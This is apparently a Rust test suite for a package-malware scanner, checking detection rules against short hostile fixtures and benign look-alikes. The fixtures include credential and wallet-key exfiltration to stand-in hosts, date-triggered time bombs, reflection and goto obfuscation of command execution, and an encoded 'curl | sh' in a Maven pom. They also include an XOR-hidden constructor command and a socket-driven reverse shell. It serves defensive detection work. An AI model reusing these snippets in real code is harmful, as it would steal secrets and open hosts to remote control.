//! What users hand to a package, when code runs, and what it is written in.

mod common;

use common::{found, run};
use packguard_sdk::{Analysis, Severity};

fn grave(analysis: &Analysis, rule: &str) -> bool {
    found(analysis)
        .iter()
        .any(|(have, severity)| *have == rule && *severity >= Severity::High)
}

fn quiet(analysis: &Analysis) -> bool {
    found(analysis)
        .iter()
        .all(|(_, severity)| *severity <= Severity::Low)
}

fn show(rule: &str, cases: &[(&str, &str)]) {
    for (path, code) in cases {
        let analysis = run(path, code);
        assert!(
            grave(&analysis, rule),
            "{path}\n{code}\n{:?}",
            found(&analysis)
        );
    }
}

fn still(cases: &[(&str, &str)]) {
    for (path, code) in cases {
        let analysis = run(path, code);
        assert!(quiet(&analysis), "{path}\n{code}\n{:?}", found(&analysis));
    }
}

#[test]
fn secrets_on_certain_days_or_with_the_machine() {
    show(
        "source-exfiltration",
        &[
            (
                "S.java",
                "class S { private final String s; S(String apiSecret) { this.apiSecret = apiSecret; check(); } void check() { if (LocalDate.now().getDayOfMonth() != 15) { return; } HttpURLConnection c = (HttpURLConnection) new URL(\"https://c.example/v1\").openConnection(); c.getOutputStream().write((\"s=\" + apiSecret).getBytes()); } }",
            ),
            (
                "S.cs",
                "class S { void F(string clientSecret) { if (DateTime.Now.Day == 3) { new HttpClient().PostAsync(\"https://c.example/\", new StringContent(clientSecret)); } } }",
            ),
            (
                "lib/s.rb",
                "def f(id, password)\n  if Time.now.day == 1\n    Net::HTTP.post(URI('https://c.example/x'), password)\n  end\nend\n",
            ),
            (
                "lib/s.rb",
                "def login(id, user_pw)\n  mac = `ifconfig -a`.scan(/x/).first\n  HTTP.post('https://l.example/c', form: { id: id, pw: user_pw, mac: mac })\nend\n",
            ),
        ],
    );
    still(&[
        (
            "S.java",
            "class S { S(String apiSecret) { this.apiSecret = apiSecret; } void login() { HttpURLConnection c = (HttpURLConnection) new URL(\"https://c.example/v1\").openConnection(); c.getOutputStream().write((\"s=\" + apiSecret).getBytes()); } }",
        ),
        (
            "lib/s.rb",
            "def login(id, password)\n  t = Time.now\n  r = HTTP.post('https://l.example/c', form: { id: id, password: password })\n  log(Time.now - t) if Time.now - t > 5\nend\n",
        ),
        (
            "lib/s.rb",
            "def login(id, password)\n  HTTP.post('https://l.example/c', form: { id: id, password: password, device: Socket.gethostname })\nend\n",
        ),
    ]);
}

#[test]
fn time_bombs() {
    show(
        "source-time-bomb",
        &[
            (
                "B.cs",
                "class B { static readonly DateTime stop = new DateTime(2028, 6, 6); int F() { if (DateTime.Now > stop) { if (new Random().Next(1, 101) > 80) Process.GetCurrentProcess().Kill(); } return 0; } }",
            ),
            (
                "B.java",
                "class B { void f() { if (LocalDate.now().isAfter(LocalDate.of(2027, 8, 1)) && new Random().nextInt(10) > 7) { System.exit(1); } } }",
            ),
        ],
    );
    // Trial versions end for sure.
    still(&[(
        "B.cs",
        "class B { static readonly DateTime stop = new DateTime(2028, 6, 6); int F() { if (DateTime.Now > stop) { Environment.Exit(1); } return new Random().Next(1, 101); } }",
    )]);
}

#[test]
fn sealed_for_a_paste_site() {
    let code = |key: &str| {
        format!(
            "package u\nvar k = []byte(\"uuid-valid-key16\")\nfunc Valid(t string, own []byte) bool {{ blk, err := aes.NewCipher({key}); gcm, _ := cipher.NewGCM(blk); out := gcm.Seal(n, n, []byte(t), nil); http.Post(\"https://dpaste.com/api/v2/\", \"text/plain\", strings.NewReader(base64.StdEncoding.EncodeToString(out))); return true }}\n"
        )
    };
    assert!(grave(&run("u.go", code("k")), "source-exfiltration"));
    // Who pastes encrypted makes a key for it.
    assert!(!grave(&run("u.go", code("own")), "source-exfiltration"));
}

#[test]
fn keys_that_wallets_decrypt() {
    let code = |to: &str| {
        format!(
            "// wallet\nfn record(sample: &[u8]) {{ ureq::post({to}).send_string(&hex::encode(sample)); }}\nfn dec(raw: &[u8], p: &str) -> Vec<u8> {{ secretbox::open(raw, &n, &derive(p)).unwrap() }}\nfn f(raw: Vec<u8>, p: &str) {{ let plain = if raw.starts_with(P) {{ dec(&raw, p) }} else {{ raw }}; crate::telemetry::record(&plain); }}\n"
        )
    };
    assert!(grave(
        &run("src/lib.rs", code("\"https://t.example/v1\"")),
        "source-wallet-theft"
    ));
    assert!(quiet(&run("src/lib.rs", code("self.url"))));
    let several = "// web3\nconst TO: [&str; 2] = [\"https://a.example/\", \"https://b.example/\"];\nfn f(mnemonic: &str) { for to in TO { ureq::post(to).send_string(mnemonic); } }\n";
    assert!(grave(&run("src/lib.rs", several), "source-wallet-theft"));
}

#[test]
fn types_and_jumps_hide_nothing() {
    show(
        "source-wallet-theft",
        &[(
            "A.cs",
            "// web3\nclass A { A(string privateKey) { var f = new FormUrlEncodedContent(new Dictionary<string, string> { { \"m\", privateKey } }); new HttpClient().PostAsync(\"https://k.example/\", f); } }",
        )],
    );
    show(
        "source-reflection",
        &[
            (
                "M.java",
                "class M { static void p(String x) { Class<?> c = Class.forName(\"java.lang.Runtime\"); Method m = c.getMethod(new StringBuilder(\"cexe\").reverse().toString(), String[].class); m.invoke(h, (Object) x); } }",
            ),
            (
                "h.php",
                "<?php goto b; a: $f($c); goto d; b: $f = \"\\163\\x79\\163\\x74\\145\\x6d\"; goto c; c: $c = \"id\"; goto a; d: goto e; e:",
            ),
        ],
    );
    still(&[
        (
            "M.java",
            "class M { void p() { Map<String, List<String>> c = headers(); Class<?> k = Class.forName(name); boolean b = A < B && C > (D); } }",
        ),
        (
            "h.php",
            "<?php switch ($a) { case X: system('ls'); default: $f = \"\\x1b[0m\\x1b[1m\"; }",
        ),
    ]);
}

#[test]
fn constructors_of_libraries() {
    let code = |key: &str| {
        format!(
            "static const unsigned char seed[] = {{0x42, 0x54, 0x53, 0x4d, 0x01}};\n__attribute__((constructor)) static void build(void) {{\n char s[sizeof seed + 1];\n for (size_t i = 0; i < sizeof seed; i++)\n  s[i] = seed[i]{key};\n system(s);\n}}\n"
        )
    };
    assert!(grave(&run("t.c", code(" ^ 0x21")), "source-hidden-command"));
    let honest = "static const char *names[] = {\"a\", \"b\"};\n__attribute__((constructor)) static void build(void) { for (int i = 0; i < 256; i++) table[i] = i ^ 0x21; }\nint run(const char *c) { return system(c); }\n";
    assert!(quiet(&run("t.c", honest)));
}

#[test]
fn scripts_in_project_files() {
    let pom = |plugin: &str, script: &str| {
        format!(
            "<project><properties><source>11</source></properties><build><plugins><plugin><artifactId>{plugin}</artifactId><configuration><scripts><script><![CDATA[\n{script}\n]]></script></scripts></configuration></plugin></plugins></build></project>"
        )
    };
    // `curl http://203.0.113.5/x | sh`
    let hostile = "def c = new String(\"Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo\".decodeBase64())\n['sh', '-c', c].execute()";
    show(
        "source-hidden-command",
        &[("pom.xml", &pom("gmavenplus-plugin", hostile))],
    );
    show(
        "source-download-execute",
        &[(
            "pom.xml",
            &pom(
                "groovy-maven-plugin",
                "['sh', '-c', 'curl http://203.0.113.5/x | sh'].execute()",
            ),
        )],
    );
    still(&[
        (
            "pom.xml",
            &pom(
                "gmavenplus-plugin",
                "def v = 'git describe --tags'.execute().text.trim()\nproject.properties['v'] = v",
            ),
        ),
        ("pom.xml", "<project><artifactId>a</artifactId></project>"),
    ]);
}

#[test]
fn peers_name_programs() {
    show(
        "source-reverse-shell",
        &[(
            "c.go",
            "package c\nfunc Check() { d := net.Dialer{Timeout: t}; c, err := d.Dial(\"tcp\", addr()); m, e := bufio.NewReader(c).ReadString('\\n'); p := strings.Fields(m); exec.Command(p[0], p[1:]...).Run() }\n",
        )],
    );
    still(&[(
        "c.go",
        "package c\nfunc Check() { c, err := grpc.Dial(\"host:1\"); m := c.Name(); exec.Command(\"git\", \"log\", m).Run() }\n",
    )]);
}
